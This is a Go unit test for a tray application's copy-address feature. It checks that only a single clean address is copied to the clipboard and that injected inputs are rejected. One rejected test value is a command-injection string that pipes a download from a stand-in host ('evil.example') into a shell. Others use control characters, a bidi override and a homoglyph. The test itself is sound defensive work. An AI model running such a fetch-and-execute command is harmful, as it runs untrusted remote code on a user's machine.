package desk

import (
	"strings"
	"testing"

	menu "github.com/postern-zt/postern/tray/view"
)

// What is copied is pasted into terminals, where a line break runs what stands
// before it: an address is one word, or it is not copied.
func TestOnlyAddressesAreCopied(t *testing.T) {
	for address, ok := range map[string]bool{
		"127.0.0.1:4000": true, "[::1]:4000": true, "wiki.internal:443": true,
		"x; curl evil.example | sh\n": false, "127.0.0.1:1\n": false, "127.0.0.1:1\r": false, "127.0.0.1:1 x": false, "\x1b[31m": false,
		"127.0.0.1\u202e:1": false, "wіki:1": false, strings.Repeat("x", maxAddress+1): false,
	} {
		st := well()
		st.Apps[0].LocalAddress = address
		inLab(t, st, nil, func(l *lab) {
			l.choose(menu.DoCopyApp, "wiki")
			if ok {
				l.happened("copy " + address)
			} else {
				l.happened()
			}
		})
	}
}
